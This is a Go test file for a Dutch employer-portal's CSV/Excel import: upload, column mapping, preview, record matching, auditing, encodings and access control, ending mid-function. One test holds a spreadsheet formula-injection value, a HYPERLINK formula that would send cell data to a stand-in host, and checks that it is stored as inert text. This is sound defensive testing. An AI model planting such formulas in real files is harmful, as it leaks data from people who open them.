package importer_test

import (
	"bytes"
	"context"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/url"
	"os"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"
	"github.com/xuri/excelize/v2"

	"netwerkportaal/internal/app/apptest"
)

func networkAt(t testing.TB, env *apptest.Env, pos int) int64 {
	t.Helper()
	return apptest.Scalar[int64](t, env, `SELECT id FROM networks ORDER BY id OFFSET $1 LIMIT 1`, pos-1)
}

func testdata(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// post uploads a file as the browser's form does.
func post(t testing.TB, env *apptest.Env, c *apptest.Client, network int64, filename string, data []byte) *apptest.Response {
	t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	if network != 0 {
		mw.WriteField("netwerk", strconv.FormatInt(network, 10))
	}
	if data != nil {
		fw, err := mw.CreateFormFile("bestand", filename)
		if err != nil {
			t.Fatal(err)
		}
		fw.Write(data)
	}
	mw.Close()
	req, err := http.NewRequest(http.MethodPost, env.URL("/import"), &body)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	return c.Do(req)
}

var uploadPath = regexp.MustCompile(`^/import/(\d+)/koppelen$`)

// upload posts a file that must be accepted and returns the upload's path
// prefix, "/import/12".
func upload(t testing.TB, env *apptest.Env, c *apptest.Client, network int64, filename string, data []byte) string {
	t.Helper()
	res := post(t, env, c, network, filename, data)
	apptest.WantStatus(t, res, http.StatusSeeOther)
	m := uploadPath.FindStringSubmatch(res.Header.Get("Location"))
	if m == nil {
		t.Fatalf("upload redirects to %q", res.Header.Get("Location"))
	}
	return "/import/" + m[1]
}

// mapAsGuessed posts the mapping page as it comes, and returns the preview.
func mapAsGuessed(t testing.TB, c *apptest.Client, up string) *goquery.Document {
	t.Helper()
	page := c.Get(up + "/koppelen")
	apptest.WantStatus(t, page, http.StatusOK)
	res := c.PostForm(up+"/koppelen", apptest.FormValues(page.Doc(t), `form[action$="/koppelen"]`))
	apptest.WantStatus(t, res, http.StatusSeeOther)
	if res.Header.Get("Location") != up+"/voorbeeld" {
		t.Fatalf("after mapping to %q", res.Header.Get("Location"))
	}
	preview := c.Get(up + "/voorbeeld")
	apptest.WantStatus(t, preview, http.StatusOK)
	return preview.Doc(t)
}

// apply posts the preview's import form with a mode, as a browser does.
// Where the preview asks what the file does not say, it answers as the
// portal used to assume: new employers are lid since today.
func apply(t testing.TB, c *apptest.Client, up, mode string) *apptest.Response {
	t.Helper()
	form := url.Values{}
	if page := c.Get(up + "/voorbeeld"); page.StatusCode == http.StatusOK {
		doc := page.Doc(t)
		form = apptest.FormValues(doc, `form[action$="/importeren"]`)
		if doc.Find(`[name="standaard-status"]`).Length() > 0 && form.Get("standaard-status") == "" {
			form.Set("standaard-status", "lid")
		}
		if doc.Find(`[name="lid-sinds"]`).Length() > 0 && form.Get("lid-sinds") == "" {
			form.Set("lid-sinds", "vandaag")
		}
	}
	form.Set("modus", mode)
	return c.PostForm(up+"/importeren", form)
}

// importFile runs every step with the guessed mapping and all valid rows.
func importFile(t testing.TB, env *apptest.Env, c *apptest.Client, network int64, filename string, data []byte) (string, *goquery.Document) {
	t.Helper()
	up := upload(t, env, c, network, filename, data)
	doc := mapAsGuessed(t, c, up)
	res := apply(t, c, up, "geldig")
	apptest.WantStatus(t, res, http.StatusSeeOther)
	if res.Header.Get("Location") != up+"/resultaat" {
		t.Fatalf("after importing to %q", res.Header.Get("Location"))
	}
	return up, doc
}

// summary reads the preview's counts by their label.
func summary(doc *goquery.Document) map[string]string {
	return terms(doc.Find(`section[aria-labelledby="samenvatting"] dl`))
}

// terms reads a description list: dt → dd.
func terms(dl *goquery.Selection) map[string]string {
	out := map[string]string{}
	dl.Find("dt").Each(func(_ int, dt *goquery.Selection) {
		out[apptest.Text(dt)] = apptest.Text(dt.Next())
	})
	return out
}

// state is what an import may change, counted.
type state struct {
	Employers, Contacts, Audit, Runs, StatusChanges int
	Versions                                        int // sum of employer and contact versions
	Updated                                         string
}

func stateOf(t testing.TB, env *apptest.Env) state {
	t.Helper()
	var s state
	err := env.Pool.QueryRow(context.Background(), `SELECT (SELECT count(*) FROM employers), (SELECT count(*) FROM contacts),
		(SELECT count(*) FROM audit_log), (SELECT count(*) FROM import_runs), (SELECT count(*) FROM employer_status_changes),
		(SELECT coalesce(sum(version), 0) FROM employers) + (SELECT coalesce(sum(version), 0) FROM contacts),
		(SELECT max(updated_at)::text FROM employers)`).
		Scan(&s.Employers, &s.Contacts, &s.Audit, &s.Runs, &s.StatusChanges, &s.Versions, &s.Updated)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// TestSampleImportsIntoDemo is the "done": the sample of 200
// employers imports cleanly into the demo, every record audited with the
// import as its source; importing it again changes nothing at all.
func TestSampleImportsIntoDemo(t *testing.T) {
	t.Parallel()
	env := apptest.New(t)
	coord := env.Login(t, apptest.Coordinator)
	net1 := networkAt(t, env, 1)
	data := testdata(t, "voorbeeld-200-werkgevers.csv")
	rows := bytes.Count(data, []byte("\r\n")) - 1
	before := stateOf(t, env)

	up := upload(t, env, coord, net1, "voorbeeld-200-werkgevers.csv", data)
	// Every column is guessed from its Dutch header.
	form := apptest.FormValues(coord.Get(up+"/koppelen").Doc(t), `form[action$="/koppelen"]`)
	want := []string{"naam", "kvk", "sector", "medewerkers", "adres", "postcode", "plaats", "regio", "status",
		"contact_naam", "email", "telefoon", "functie", "niveau"}
	for i, k := range want {
		if got := form.Get(fmt.Sprintf("kolom-%d", i)); got != k {
			t.Errorf("column %d guessed as %q, want %q", i, got, k)
		}
	}
	doc := mapAsGuessed(t, coord, up)
	s := summary(doc)
	if s["Nieuwe werkgevers"] != "200" || s["Nieuwe contactpersonen"] != strconv.Itoa(rows) ||
		s["Rijen die niet kunnen worden geïmporteerd"] != fmt.Sprintf("0 van %d", rows) || s["Bestaande werkgevers die wijzigen"] != "0" {
		t.Errorf("preview summary %v", s)
	}
	if doc.Find("#tabel-geweigerd, #tabel-opmerkingen").Length() != 0 {
		t.Errorf("the sample has refused rows or notes: %s", apptest.Text(doc.Find("#tabel-geweigerd, #tabel-opmerkingen")))
	}
	if got := apptest.Text(doc.Find(`section[aria-labelledby="werkgevers"] tbody tr`).First()); !strings.Contains(got, "Nieuw") {
		t.Errorf("first employer line %q", got)
	}
	if after := stateOf(t, env); after != before {
		t.Errorf("the preview changed something: %+v → %+v", before, after)
	}

	res := apply(t, coord, up, "geldig")
	apptest.WantStatus(t, res, http.StatusSeeOther)
	result := coord.Get(up + "/resultaat")
	apptest.WantStatus(t, result, http.StatusOK)
	rdoc := result.Doc(t)
	if got := apptest.Text(rdoc.Find(".flash")); got != "Het bestand voorbeeld-200-werkgevers.csv is geïmporteerd." {
		t.Errorf("flash %q", got)
	}
	if got := terms(rdoc.Find("dl")); got["Werkgevers aangemaakt"] != "200" || got["Contactpersonen aangemaakt"] != strconv.Itoa(rows) ||
		got["Werkgevers gewijzigd"] != "0" || got["Rijen niet geïmporteerd"] != "0" || got["Bestand"] != "voorbeeld-200-werkgevers.csv" {
		t.Errorf("result %v", got)
	}

	after := stateOf(t, env)
	if after.Employers-before.Employers != 200 || after.Contacts-before.Contacts != rows || after.Runs != before.Runs+1 ||
		after.StatusChanges-before.StatusChanges != 200 || after.Audit-before.Audit != 200+rows {
		t.Errorf("before %+v, after %+v (%d rows)", before, after, rows)
	}
	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM audit_log WHERE source = 'import' AND action = 'aangemaakt'
		AND actor = 'Corien de Vries' AND user_id IS NOT NULL`); n != 200+rows {
		t.Errorf("%d audit entries with source import, want %d", n, 200+rows)
	}
	var run struct{ total, refused, ec, eu, cc, cu int }
	env.Pool.QueryRow(context.Background(), `SELECT rows_total, rows_refused, employers_created, employers_updated,
		contacts_created, contacts_updated FROM import_runs ORDER BY id DESC LIMIT 1`).
		Scan(&run.total, &run.refused, &run.ec, &run.eu, &run.cc, &run.cu)
	if run.total != rows || run.refused != 0 || run.ec != 200 || run.eu != 0 || run.cc != rows || run.cu != 0 {
		t.Errorf("import run %+v", run)
	}
	if n := apptest.Scalar[int](t, env, `SELECT length(data) FROM import_uploads WHERE id = $1`, uploadID(up)); n != 0 {
		t.Errorf("the upload keeps %d bytes after the import", n)
	}
	// Values as the portal stores them.
	var kvk, sector, region, status, postcode string
	var employees int
	var memberSince bool
	err := env.Pool.QueryRow(context.Background(), `SELECT e.kvk_number, s.code, r.name, e.status, e.postcode, e.employee_count,
		e.member_since IS NOT NULL FROM employers e JOIN sectors s ON s.id = e.sector_id JOIN regions r ON r.id = e.region_id
		WHERE e.name = 'Kinderopvang Eshuis'`).Scan(&kvk, &sector, &region, &status, &postcode, &employees, &memberSince)
	if err != nil || kvk != "93000415" || sector != "Q" || region != "Twente" || status != "prospect" || postcode != "7556 GA" ||
		employees != 13 || memberSince {
		t.Errorf("Kinderopvang Eshuis: %v %s %s %s %s %s %d %v", err, kvk, sector, region, status, postcode, employees, memberSince)
	}
	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM employers e WHERE e.network_id = $1 AND e.kvk_number LIKE '93%'
		AND (SELECT count(*) FROM contacts c WHERE c.employer_id = e.id AND c.is_primary) <> 1`, net1); n != 0 {
		t.Errorf("%d imported employers without exactly one primary contact", n)
	}
	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM contacts WHERE job_title = 'HR-manager' AND function <> 'hr'`); n != 0 {
		t.Errorf("%d HR-managers not in function hr", n)
	}

	// The same file again: nothing changes, not even a version or a time.
	up2 := upload(t, env, coord, net1, "voorbeeld-200-werkgevers.csv", data)
	doc = mapAsGuessed(t, coord, up2)
	s = summary(doc)
	if s["Nieuwe werkgevers"] != "0" || s["Bestaande werkgevers die blijven zoals ze zijn"] != "200" ||
		s["Nieuwe contactpersonen"] != "0" || s["Bestaande contactpersonen die blijven zoals ze zijn"] != strconv.Itoa(rows) {
		t.Errorf("second preview %v", s)
	}
	apptest.WantStatus(t, apply(t, coord, up2, "geldig"), http.StatusSeeOther)
	again := stateOf(t, env)
	after.Runs++
	if again != after {
		t.Errorf("the second import changed something: %+v → %+v", after, again)
	}
	if got := terms(coord.Get(up2 + "/resultaat").Doc(t).Find("dl")); got["Werkgevers aangemaakt"] != "0" || got["Werkgevers gewijzigd"] != "0" ||
		got["Contactpersonen aangemaakt"] != "0" || got["Contactpersonen gewijzigd"] != "0" {
		t.Errorf("second result %v", got)
	}
	// The result is the upload's last page: its other steps lead there.
	for _, step := range []string{"/koppelen", "/voorbeeld"} {
		if res := coord.Get(up2 + step); res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != up2+"/resultaat" {
			t.Errorf("GET %s after the import: %d to %q", step, res.StatusCode, res.Header.Get("Location"))
		}
	}
	if res := apply(t, coord, up2, "geldig"); res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != up2+"/resultaat" {
		t.Errorf("importing twice: %d to %q", res.StatusCode, res.Header.Get("Location"))
	}
	if stateOf(t, env) != again {
		t.Errorf("posting the import twice changed something")
	}
	// The upload page lists both imports.
	if n := coord.Get("/import").Doc(t).Find(`section[aria-labelledby="eerdere-imports"] tbody tr`).Length(); n != 2 {
		t.Errorf("%d earlier imports listed", n)
	}
}

func uploadID(up string) int64 {
	id, _ := strconv.ParseInt(strings.TrimPrefix(up, "/import/"), 10, 64)
	return id
}

// TestAllOrNothing: with one refused row, "alles of niets" imports nothing
// and shows the preview again; every refused row is listed with its row
// number, column, value and reason.
func TestAllOrNothing(t *testing.T) {
	t.Parallel()
	env := apptest.New(t)
	coord := env.Login(t, apptest.Coordinator)
	net1 := networkAt(t, env, 1)
	before := stateOf(t, env)

	up := upload(t, env, coord, net1, "fouten.csv", testdata(t, "fouten.csv"))
	doc := mapAsGuessed(t, coord, up)
	if s := summary(doc); s["Nieuwe werkgevers"] != "2" || s["Rijen die niet kunnen worden geïmporteerd"] != "5 van 7" {
		t.Errorf("summary %v", s)
	}
	var got []string
	doc.Find("#tabel-geweigerd tbody tr").Each(func(_ int, tr *goquery.Selection) {
		var cells []string
		tr.Find("td").Each(func(_ int, td *goquery.Selection) { cells = append(cells, apptest.Text(td)) })
		got = append(got, strings.Join(cells, " | "))
	})
	want := []string{
		"3 | B (KvK-nummer) | 1234 | Een KvK-nummer bestaat uit precies 8 cijfers, bijvoorbeeld 01234567.",
		"4 | E (Postcode) | 0123 AB | Een postcode bestaat uit vier cijfers (niet beginnend met 0) en twee letters, zoals 1234 AB.",
		"5 | J (E-mail) | mirjam-at-knipoog.example | Geen geldig e-mailadres. Een e-mailadres ziet eruit als naam@organisatie.nl.",
		"6 | C (Sector) | Tandheelkunde | Onbekende sector. Gebruik de letter van een SBI-sectie (A tot en met U) of de naam ervan, zoals C of Industrie.",
		"7 | A (Bedrijfsnaam) | (leeg) | De naam van de werkgever ontbreekt.",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("refused rows:\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}

	res := apply(t, coord, up, "alles")
	apptest.WantStatus(t, res, http.StatusUnprocessableEntity)
	rdoc := res.Doc(t)
	if got := apptest.Text(rdoc.Find(".error-summary")); !strings.Contains(got, "Er is niets geïmporteerd: 5 rijen kunnen niet worden geïmporteerd") {
		t.Errorf("error summary %q", got)
	}
	if rdoc.Find(`input[name=modus][value=alles][checked]`).Length() != 1 || rdoc.Find("#tabel-geweigerd tbody tr").Length() != 5 {
		t.Errorf("the preview is not shown again with the choice kept")
	}
	if after := stateOf(t, env); after != before {
		t.Errorf("all or nothing changed something: %+v → %+v", before, after)
	}
	if res := coord.PostForm(up+"/importeren", url.Values{}); res.StatusCode != http.StatusUnprocessableEntity ||
		!strings.Contains(res.Body, "Kies of u alle geldige rijen wilt importeren") {
		t.Errorf("without a choice: %d", res.StatusCode)
	}

	apptest.WantStatus(t, apply(t, coord, up, "geldig"), http.StatusSeeOther)
	after := stateOf(t, env)
	if after.Employers != before.Employers+2 || after.Contacts != before.Contacts+2 || after.Runs != before.Runs+1 {
		t.Errorf("valid rows: %+v → %+v", before, after)
	}
	if n := apptest.Scalar[int](t, env, `SELECT rows_refused FROM import_runs ORDER BY id DESC LIMIT 1`); n != 5 {
		t.Errorf("run records %d refused rows", n)
	}
	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM employers WHERE name IN ('Schildersbedrijf Morsink', 'Veehouderij Reinders')`); n != 2 {
		t.Errorf("%d valid employers imported", n)
	}
}

// TestMatching: employers by KvK number, else by name and postcode;
// contacts by e-mail address, else by name. Filled cells overwrite, empty
// cells clear nothing; only what changed is written and audited.
func TestMatching(t *testing.T) {
	t.Parallel()
	env := apptest.New(t)
	coord := env.Login(t, apptest.Coordinator)
	net1, net2 := networkAt(t, env, 1), networkAt(t, env, 2)
	ctx := context.Background()

	var e1 struct {
		id                                     int64
		name, kvk, postcode, city, address     string
		sector                                 int64
		version                                int
		contactID                              int64
		contactName, contactEmail, contactFunc string
	}
	err := env.Pool.QueryRow(ctx, `SELECT e.id, e.name, e.kvk_number, e.postcode, e.city, e.address, e.sector_id, e.version,
		c.id, c.name, c.email, c.function FROM employers e JOIN contacts c ON c.employer_id = e.id
		WHERE e.network_id = $1 AND e.kvk_number IS NOT NULL AND e.address <> '' AND c.email <> ''
		ORDER BY e.id, c.id LIMIT 1`, net1).Scan(&e1.id, &e1.name, &e1.kvk, &e1.postcode, &e1.city, &e1.address, &e1.sector,
		&e1.version, &e1.contactID, &e1.contactName, &e1.contactEmail, &e1.contactFunc)
	if err != nil {
		t.Fatal(err)
	}
	// An employer without KvK number, known by name and postcode.
	// Its region is not the one its postcode suggests: a derived region
	// never replaces a chosen one.
	e2 := apptest.Scalar[int64](t, env, `INSERT INTO employers (network_id, name, postcode, city, region_id) VALUES ($1, 'Glasatelier Zonder KvK', '7522 XY', 'Enschede',
		(SELECT id FROM regions WHERE name = 'Achterhoek')) RETURNING id`, net1)
	otherKvK := apptest.Scalar[string](t, env, `SELECT kvk_number FROM employers WHERE network_id = $1 AND kvk_number IS NOT NULL LIMIT 1`, net2)

	csv := strings.Join([]string{
		"Bedrijfsnaam;KvK;Adres;Postcode;Plaats;Contactpersoon;E-mail;Telefoon;Functie",
		// By KvK: a new name and city, no address (kept); the contact by
		// e-mail in capitals, with a new phone number.
		fmt.Sprintf("%s B.V.;%s;;%s;Nieuwe Plaats;%s;%s;06-99999999;", e1.name, e1.kvk, e1.postcode, e1.contactName, strings.ToUpper(e1.contactEmail)),
		fmt.Sprintf("%s B.V.;%s;;;;Nieuwe Collega;nieuwe.collega@example.org;;Inkoper", e1.name, e1.kvk),
		// By name and postcode: nothing changes (the second row, in other
		// capitals, is the same employer); a contact without e-mail address
		// is new, and found by name next time.
		"Glasatelier Zonder KvK;;;7522 XY;Enschede;;;;",
		"glasatelier zonder kvk;;;7522 XY;;Piet Zonder Mail;;;Directeur",
		// A KvK number of another network: refused.
		fmt.Sprintf("Iemand Anders;%s;;;;;;;", otherKvK),
	}, "\n") + "\n"
	auditBefore := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM audit_log`)

	up := upload(t, env, coord, net1, "koppelingen.csv", []byte(csv))
	doc := mapAsGuessed(t, coord, up)
	s := summary(doc)
	if s["Nieuwe werkgevers"] != "0" || s["Bestaande werkgevers die wijzigen"] != "1" || s["Bestaande werkgevers die blijven zoals ze zijn"] != "1" ||
		s["Nieuwe contactpersonen"] != "2" || s["Bestaande contactpersonen die wijzigen"] != "1" || s["Rijen die niet kunnen worden geïmporteerd"] != "1 van 5" {
		t.Errorf("summary %v", s)
	}
	if tr := doc.Find("#tabel-geweigerd tbody tr"); tr.Length() != 1 || apptest.Text(tr.Find("td").Eq(0)) != "6" ||
		apptest.Text(tr.Find("td").Eq(2)) != otherKvK || !strings.Contains(apptest.Text(tr), "hoort bij een werkgever in een ander netwerk") {
		t.Errorf("refused %q", apptest.Text(tr))
	}
	if got := apptest.Text(doc.Find(`section[aria-labelledby="werkgevers"] tbody`)); !strings.Contains(got, "Wijzigt: naam, plaats") {
		t.Errorf("employer lines %q", got)
	}
	apptest.WantStatus(t, apply(t, coord, up, "geldig"), http.StatusSeeOther)

	var name, city, address string
	var sector int64
	var version int
	env.Pool.QueryRow(ctx, `SELECT name, city, address, sector_id, version FROM employers WHERE id = $1`, e1.id).
		Scan(&name, &city, &address, &sector, &version)
	if name != e1.name+" B.V." || city != "Nieuwe Plaats" || address != e1.address || sector != e1.sector || version != e1.version+1 {
		t.Errorf("employer %q %q %q %d v%d", name, city, address, sector, version)
	}
	var phone, function, email string
	env.Pool.QueryRow(ctx, `SELECT phone, function, email FROM contacts WHERE id = $1`, e1.contactID).Scan(&phone, &function, &email)
	if phone != "06-99999999" || function != e1.contactFunc || email != e1.contactEmail {
		t.Errorf("contact %q %q %q", phone, function, email)
	}
	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM contacts WHERE employer_id = $1 AND email = 'nieuwe.collega@example.org'
		AND function = 'inkoop' AND job_title = 'Inkoper' AND level = 'operationeel' AND NOT is_primary`, e1.id); n != 1 {
		t.Errorf("new colleague: %d", n)
	}
	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM contacts WHERE employer_id = $1 AND name = 'Piet Zonder Mail' AND function = 'directie'`, e2); n != 1 {
		t.Errorf("contact without e-mail: %d", n)
	}
	// The audit trail: the changed fields only, with the import as source.
	changes := apptest.Scalar[string](t, env, `SELECT changes::text FROM audit_log WHERE entity = 'employer' AND entity_id = $1 AND source = 'import'
		AND action = 'gewijzigd'`, e1.id)
	if want := fmt.Sprintf(`{"naam": {"new": "%s B.V.", "old": "%s"}, "plaats": {"new": "Nieuwe Plaats", "old": "%s"}}`, e1.name, e1.name, e1.city); changes != want {
		t.Errorf("employer audit %s, want %s", changes, want)
	}
	if c := apptest.Scalar[string](t, env, `SELECT changes::text FROM audit_log WHERE entity = 'contact' AND entity_id = $1 AND source = 'import'`, e1.contactID); !strings.HasPrefix(c, `{"telefoon": {"new": "06-99999999"`) {
		t.Errorf("contact audit %s", c)
	}
	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM audit_log WHERE entity = 'employer' AND entity_id = $1`, e2); n != 0 {
		t.Errorf("the unchanged employer has %d audit entries", n)
	}
	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM audit_log`) - auditBefore; n != 4 {
		t.Errorf("%d audit entries, want 4 (an employer and a contact changed, two contacts created)", n)
	}

	// Again: the new name and the e-mail-less contact are found, nothing changes.
	before := stateOf(t, env)
	up2 := upload(t, env, coord, net1, "koppelingen.csv", []byte(csv))
	s = summary(mapAsGuessed(t, coord, up2))
	if s["Bestaande werkgevers die blijven zoals ze zijn"] != "2" || s["Nieuwe contactpersonen"] != "0" || s["Bestaande contactpersonen die blijven zoals ze zijn"] != "3" {
		t.Errorf("second summary %v", s)
	}
	apptest.WantStatus(t, apply(t, coord, up2, "geldig"), http.StatusSeeOther)
	after := stateOf(t, env)
	before.Runs++
	if after != before {
		t.Errorf("the second import changed something: %+v → %+v", before, after)
	}
}

// xlsxFile builds a small workbook, as a coordinator's spreadsheet program
// would save it: a KvK number typed as a number loses its leading zero.
func xlsxFile(t testing.TB) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	rows := [][]any{
		{"Werkgever", "KvK", "Sector", "Medewerkers", "Postcode", "Plaats", "Contactpersoon", "E-mail", "Functie"},
		{"Zuivelfabriek De Eendracht", 1234567, "C", 140, "7481 AB", "Haaksbergen", "Marloes Hulshof", "marloes@eendracht.example", "HR-manager"},
		{"Zuivelfabriek De Eendracht", 1234567, "C", 140, "7481 AB", "Haaksbergen", "Niels Bruggink", "niels@eendracht.example", "Directeur"},
	}
	for i, r := range rows {
		cell, _ := excelize.CoordinatesToCellName(1, i+1)
		if err := f.SetSheetRow("Sheet1", cell, &r); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestFormatsAndEncodings imports each kind of file and finds its accented
// names intact.
func TestFormatsAndEncodings(t *testing.T) {
	t.Parallel()
	env := apptest.New(t)
	coord := env.Login(t, apptest.Coordinator)
	net1 := networkAt(t, env, 1)
	tests := []struct {
		file     string
		data     []byte
		content  string // the preview's description of the file
		employer string
		contacts []string
	}{
		{"utf8-bom-puntkomma.csv", testdata(t, "utf8-bom-puntkomma.csv"), "CSV-bestand in UTF-8 met BOM, gescheiden door puntkomma; 3 rijen met gegevens",
			"Coöperatie Zuivelhoeve", []string{"Geërt Olthof|geert@zuivelhoeve.example|hr|HR-adviseur"}},
		{"utf8-komma.csv", testdata(t, "utf8-komma.csv"), "CSV-bestand in UTF-8, gescheiden door komma; 3 rijen met gegevens",
			"Smit, Jansen & Zn. Installatietechniek", []string{"Fatima El Amrani|fatima@smitjansen.example|hr|HR manager",
				"Jeroen Smit|jeroen@smitjansen.example|directie|Director"}},
		{"windows1252-tab.txt", testdata(t, "windows1252-tab.txt"), "CSV-bestand in Windows-1252, gescheiden door tab; 3 rijen met gegevens",
			"Brasserie Één", []string{"Renée van der Meer|renee@brasserie-een.example|directie|DGA", "Zoë Nijhuis|zoe@brasserie-een.example|leidinggevende|Chef-kok"}},
		{"werkgevers.xlsx", xlsxFile(t), "Excel-werkmap, werkblad Sheet1; 2 rijen met gegevens",
			"Zuivelfabriek De Eendracht", []string{"Marloes Hulshof|marloes@eendracht.example|hr|HR-manager", "Niels Bruggink|niels@eendracht.example|directie|Directeur"}},
	}
	for _, tt := range tests {
		up, doc := importFile(t, env, coord, net1, tt.file, tt.data)
		if got := apptest.Text(doc.Find("dl.summary-list").First()); !strings.Contains(got, tt.content) {
			t.Errorf("%s: file described as %q", tt.file, got)
		}
		var got []string
		rows, _ := env.Pool.Query(context.Background(), `SELECT c.name || '|' || c.email || '|' || c.function || '|' || c.job_title
			FROM contacts c JOIN employers e ON e.id = c.employer_id WHERE e.name = $1 ORDER BY c.name`, tt.employer)
		for rows.Next() {
			var s string
			rows.Scan(&s)
			got = append(got, s)
		}
		if strings.Join(got, "\n") != strings.Join(tt.contacts, "\n") {
			t.Errorf("%s (%s): contacts\n%s\nwant\n%s", tt.file, up, strings.Join(got, "\n"), strings.Join(tt.contacts, "\n"))
		}
	}
	if n := apptest.Scalar[string](t, env, `SELECT kvk_number FROM employers WHERE name = 'Zuivelfabriek De Eendracht'`); n != "01234567" {
		t.Errorf("xlsx KvK number %q", n)
	}
	if n := apptest.Scalar[string](t, env, `SELECT notes FROM employers WHERE name = 'Smit, Jansen & Zn. Installatietechniek'`); n != "Eerste gesprek in maart,\nvervolg na de zomer" {
		t.Errorf("multi-line note %q", n)
	}
}

// TestHostileFilesChangeNothing: files the portal cannot or will not read
// get a clear message next to the file field, and nothing is stored.
func TestHostileFilesChangeNothing(t *testing.T) {
	t.Parallel()
	env := apptest.New(t)
	coord := env.Login(t, apptest.Coordinator)
	net1 := networkAt(t, env, 1)
	before := stateOf(t, env)
	var many bytes.Buffer
	many.WriteString("Bedrijfsnaam;Plaats\n")
	for i := 0; i <= 20_000; i++ {
		fmt.Fprintf(&many, "Werkgever %d;Enschede\n", i)
	}
	tests := []struct {
		name    string
		network int64
		data    []byte
		status  int
		field   string
		want    string
	}{
		{"kapotte-aanhalingstekens.csv", net1, testdata(t, "kapotte-aanhalingstekens.csv"), 422, "bestand", "fout in de aanhalingstekens op regel 3"},
		{"binair.csv", net1, testdata(t, "binair.csv"), 422, "bestand", "tekens die niet in een tekstbestand horen"},
		{"grote-cel.csv", net1, testdata(t, "grote-cel.csv"), 422, "bestand", "De cel in rij 2, kolom C is te lang: 3000 tekens"},
		{"te-veel-rijen.csv", net1, many.Bytes(), 422, "bestand", "meer dan 20000 rijen"},
		{"te-groot.csv", net1, bytes.Repeat([]byte("a;b\n"), 10<<20/4+1), 413, "bestand", "groter dan 10 MB"},
		{"veel-te-groot.csv", net1, bytes.Repeat([]byte("a;b\n"), 12<<20/4), 413, "bestand", "groter dan 10 MB"},
		{"oud.xls", net1, append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, make([]byte, 1000)...), 422, "bestand", "oud Excel-bestand"},
		{"leeg.csv", net1, []byte{}, 422, "bestand", "Het bestand is leeg."},
		{"geen-bestand", net1, nil, 422, "bestand", "Kies een bestand."},
		{"ander-netwerk.csv", networkAt(t, env, 2), testdata(t, "fouten.csv"), 422, "netwerk", "Kies het netwerk waarin de werkgevers komen."},
	}
	for _, tt := range tests {
		res := post(t, env, coord, tt.network, tt.name, tt.data)
		if res.StatusCode != tt.status {
			t.Errorf("%s: status %d, want %d", tt.name, res.StatusCode, tt.status)
			continue
		}
		doc := res.Doc(t)
		if got := apptest.Text(doc.Find("#f-" + tt.field + "-error")); !strings.Contains(got, tt.want) {
			t.Errorf("%s: error %q lacks %q", tt.name, got, tt.want)
		}
		if doc.Find(`.error-summary a[href="#f-`+tt.field+`"]`).Length() != 1 {
			t.Errorf("%s: no link to the field in the error summary", tt.name)
		}
	}
	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM import_uploads`); n != 0 {
		t.Errorf("%d uploads stored", n)
	}
	if after := stateOf(t, env); after != before {
		t.Errorf("refused files changed something: %+v → %+v", before, after)
	}

	// Formula cells are imported as the text they are, and pointed out.
	up, doc := importFile(t, env, coord, net1, "formules.csv", testdata(t, "formules.csv"))
	if got := apptest.Text(doc.Find("#tabel-opmerkingen")); !strings.Contains(got, "Begint met =: wordt als gewone tekst opgeslagen") ||
		!strings.Contains(got, "Begint met @") {
		t.Errorf("%s: notes %q", up, got)
	}
	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM employers WHERE name = '=HYPERLINK("https://example.invalid/?d="&A1;"klik")'
		AND notes = '=1+1'`); n != 1 {
		t.Errorf("formula text not stored as text")
	}
}

// TestAccess: bestuur may not import; an upload is its user's own.
func TestAccess(t *testing.T) {
	t.Parallel()
	env := apptest.New(t)
	coord := env.Login(t, apptest.Coordinator)
	net1 := networkAt(t, env, 1)
	up := upload(t, env, coord, net1, "fouten.csv", testdata(t, "fouten.csv"))

	bestuur := env.Login(t, apptest.Bestuur)
	apptest.WantStatus(t, bestuur.Get("/import"), http.StatusForbidden)
	apptest.WantStatus(t, post(t, env, bestuur, net1, "fouten.csv", testdata(t, "fouten.csv")), http.StatusForbidden)
	apptest.WantStatus(t, bestuur.Get(up+"/koppelen"), http.StatusForbidden)
	if bestuur.Get("/werkgevers").Doc(t).Find(`nav a[href="/import"]`).Length() != 0 {
		t.Errorf("bestuur sees Import in the menu")
	}
	if coord.Get("/werkgevers").Doc(t).Find(`nav a[href="/import"]`).Length() != 1 {
		t.Errorf("the coordinator lacks Import in the menu")
	}

	// Another coordinator, and even the beheerder, cannot see the upload.
	for _, who := range []string{apptest.Coordinator2, apptest.Beheerder} {
		other := env.Login(t, who)
		for _, p := range []string{"/koppelen", "/voorbeeld", "/resultaat"} {
			apptest.WantStatus(t, other.Get(up+p), http.StatusNotFound)
		}
		apptest.WantStatus(t, apply(t, other, up, "geldig"), http.StatusNotFound)
		apptest.WantStatus(t, other.PostForm(up+"/koppelen", url.Values{"kolom-0": {"naam"}}), http.StatusNotFound)
	}
	apptest.WantStatus(t, coord.Get("/import/abc/koppelen"), http.StatusNotFound)
	apptest.WantStatus(t, coord.Get("/import/999999/voorbeeld"), http.StatusNotFound)

	// The beheerder chooses among every network.
